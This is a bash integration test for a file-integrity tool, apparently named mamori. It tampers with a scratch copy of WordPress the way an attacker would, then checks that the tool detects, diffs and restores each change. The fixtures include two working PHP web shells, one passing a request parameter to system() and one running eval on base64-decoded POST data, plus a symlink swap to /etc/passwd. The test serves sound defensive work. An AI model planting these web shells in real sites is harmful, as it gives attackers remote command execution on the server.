#!/usr/bin/env bash
# The whole batch workflow on a real WordPress tree: init, check, tamper the way an
# attacker does, check names exactly what changed, diff shows the backdoor, restore
# --all puts every byte, mode and owner back, accept takes in a legitimate new file.
# shellcheck disable=SC2016  # PHP in single quotes is meant literally
# shellcheck source-path=SCRIPTDIR source=lib.sh
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

WP_SRC=/usr/share/wordpress
[[ -f $WP_SRC/index.php && -d $WP_SRC/wp-admin/css ]] ||
  fail "$WP_SRC is missing: install Debian's 'wordpress' package (tools/install-deps)"

WP=$SCRATCH/wp
cp -rL "$WP_SRC" "$WP"  # dereference the links to /usr/share/javascript, /etc/wordpress
write_config "$WP"

step "init and a clean check"
expect_exit 0 mamori init
assert_contains "$OUT" "baseline sealed"
hash_before=$(root_hash)
expect_exit 0 mamori check
assert_contains "$OUT" "clean"
expect_exit 0 mamori --json check
assert_eq true "$(json 'j["clean"]')" "check --json .clean on an untouched tree"

# What the tampered entries were, to compare after the restore: type, mode, owner,
# size and mtime of files; type, mode and owner of directories (their times follow
# their children and are not restored).
snapshot() {  # DIR...
  local d
  for d in "$@"; do
    find "$d" -type f -printf '%p f %m %u:%g %s %T@\n' -o -printf '%p %y %m %u:%g\n'
  done | LC_ALL=C sort
}
TAMPERED=(index.php wp-login.php wp-cron.php xmlrpc.php)
before_files=$(cd "$WP" && snapshot "${TAMPERED[@]}")
before_tree=$(cd "$WP" && snapshot wp-admin/css)
mapfile -t deleted < <(cd "$WP" && find wp-admin/css | LC_ALL=C sort)
[[ ${#deleted[@]} -gt 10 ]] || fail "wp-admin/css should be a tree, has ${#deleted[@]} entries"
passwd_sum=$(sha256 /etc/passwd)

step "tamper: backdoor, deleted tree, chmod 777, chown nobody, symlink swap, new file"
BACKDOOR='<?php if (isset($_REQUEST["c"])) { system($_REQUEST["c"]); } /* mamori-test */ ?>'
printf '%s\n' "$BACKDOOR" >>"$WP/index.php"
rm -rf "$WP/wp-admin/css"
chmod 777 "$WP/wp-login.php"
chown nobody "$WP/wp-cron.php"
rm "$WP/xmlrpc.php"
ln -s /etc/passwd "$WP/xmlrpc.php"
printf '<?php eval(base64_decode($_POST["x"])); ?>\n' >"$WP/wp-content/mamori-shell.php"

step "check reports exactly the tampered paths"
expect_exit 1 mamori check
assert_contains "$OUT" "changed  $WP/index.php  (content, mtime)"
assert_contains "$OUT" "added    $WP/wp-content/mamori-shell.php"
expect_exit 1 mamori --json check
expected=$(
  {
    echo "$WP/index.php changed content,mtime"
    echo "$WP/wp-login.php changed mode"
    echo "$WP/wp-cron.php changed owner"
    echo "$WP/xmlrpc.php changed type"
    echo "$WP/wp-content/mamori-shell.php added "
    for p in "${deleted[@]}"; do echo "$WP/$p removed "; done
  } | LC_ALL=C sort
)
actual=$(json '"\n".join(sorted("%s %s %s" % (c["path"], c["change"], ",".join(c["attributes"])) for c in j["changes"]))' | LC_ALL=C sort)
assert_eq "$expected" "$actual" "check --json changes (path change attributes)"
assert_eq false "$(json 'j["clean"]')" "check --json .clean"
assert_eq "1 $((${#deleted[@]})) 4" "$(json '"%d %d %d" % (j["summary"]["added"], j["summary"]["removed"], j["summary"]["changed"])')" \
  "check --json summary added/removed/changed"
login=$(json '[c for c in j["changes"] if c["path"].endswith("/wp-login.php")][0]')
assert_eq "0644 0777" "$(json '"%s %s" % (j["before"]["mode"], j["after"]["mode"])' "$login")" "wp-login.php before/after mode"
cron=$(json '[c for c in j["changes"] if c["path"].endswith("/wp-cron.php")][0]')
assert_eq "0 $(id -u nobody)" "$(json '"%d %d" % (j["before"]["uid"], j["after"]["uid"])' "$cron")" "wp-cron.php before/after uid"
xmlrpc=$(json '[c for c in j["changes"] if c["path"].endswith("/xmlrpc.php")][0]')
assert_eq "file symlink /etc/passwd" \
  "$(json '"%s %s %s" % (j["before"]["type"], j["after"]["type"], j["after"]["link_target"])' "$xmlrpc")" "xmlrpc.php before/after"

step "diff shows the injected line"
expect_exit 1 mamori diff "$WP/index.php"
assert_contains "$OUT" "+$BACKDOOR" "diff output"
assert_contains "$OUT" "--- a$WP/index.php" "diff header"
expect_exit 0 mamori diff "$WP/wp-settings.php"
assert_eq "" "$OUT" "diff of an untouched file prints nothing"

step "restore --all (without --quarantine-new it leaves the shell, and exits 1 to say so)"
expect_exit 1 mamori restore --all
assert_contains "$OUT" "left     $WP/wp-content/mamori-shell.php"
for f in "${TAMPERED[@]}"; do
  [[ -f $WP/$f && ! -L $WP/$f ]] || fail "$f is not a regular file after restore"
  assert_same_file "$WP_SRC/$f" "$WP/$f" "restored $f"
done
assert_eq "$before_files" "$(cd "$WP" && snapshot "${TAMPERED[@]}")" "type/mode/owner/size/mtime of restored files"
assert_eq "$before_tree" "$(cd "$WP" && snapshot wp-admin/css)" "the deleted tree's entries, modes and owners"
diff -r "$WP_SRC/wp-admin/css" "$WP/wp-admin/css" >/dev/null ||
  fail "wp-admin/css differs from $WP_SRC after restore: $(diff -rq "$WP_SRC/wp-admin/css" "$WP/wp-admin/css" | head -n 5)"
# The whole tree, bar the planted file, is the Debian tree again.
diff -r -x mamori-shell.php "$WP_SRC" "$WP" >/dev/null ||
  fail "tree differs from $WP_SRC after restore: $(diff -rq -x mamori-shell.php "$WP_SRC" "$WP" | head -n 5)"
assert_eq "$passwd_sum" "$(sha256 /etc/passwd)" "/etc/passwd (the planted symlink's target) must be untouched"
[[ -f $WP/wp-content/mamori-shell.php ]] || fail "restore removed a file that is not in the baseline"

step "check then reports only the added file"
expect_exit 1 mamori --json check
assert_eq "$WP/wp-content/mamori-shell.php added" "$(json '"\n".join("%s %s" % (c["path"], c["change"]) for c in j["changes"])')" \
  "changes after restore"
assert_eq "$hash_before" "$(root_hash)" "restore must not change the baseline's root hash"

step "accept the new file; check is clean; the root hash moved"
expect_exit 0 mamori accept "$WP/wp-content/mamori-shell.php"
expect_exit 0 mamori check
assert_contains "$OUT" "clean"
hash_after=$(root_hash)
assert_ne "$hash_before" "$hash_after" "root hash after accept"
expect_exit 0 mamori restore --all
assert_same_file /dev/stdin "$WP/wp-content/mamori-shell.php" <<<'<?php eval(base64_decode($_POST["x"])); ?>'

step "restore one file whose whole directory was deleted: its parents come back too"
id3_mode=$(stat -c '%a %u:%g' "$WP/wp-includes/ID3")
rm -rf "$WP/wp-includes/ID3"
expect_exit 0 mamori restore "$WP/wp-includes/ID3/getid3.php"
assert_same_file "$WP_SRC/wp-includes/ID3/getid3.php" "$WP/wp-includes/ID3/getid3.php" "getid3.php restored by name"
assert_eq "$id3_mode" "$(stat -c '%a %u:%g' "$WP/wp-includes/ID3")" "recreated parent directory's mode and owner"
expect_exit 0 mamori restore "$WP/wp-includes/ID3"
diff -r "$WP_SRC/wp-includes/ID3" "$WP/wp-includes/ID3" >/dev/null || fail "wp-includes/ID3 differs after restoring it"
expect_exit 0 mamori check

step "a deleted directory is one line of text (with its count), every entry in --json"
n=$(find "$WP/wp-admin/css" | wc -l)
rm -rf "$WP/wp-admin/css"
expect_exit 1 mamori check
assert_contains "$OUT" "removed  $WP/wp-admin/css  (and $((n - 1)) entries beneath)"
assert_eq 1 "$(grep -c "wp-admin/css" <<<"$OUT")" "text lines naming wp-admin/css"
expect_exit 1 mamori --json check
assert_eq "$n" "$(json 'j["summary"]["removed"]')" "removed entries in --json"
expect_exit 0 mamori restore --all
expect_exit 0 mamori check
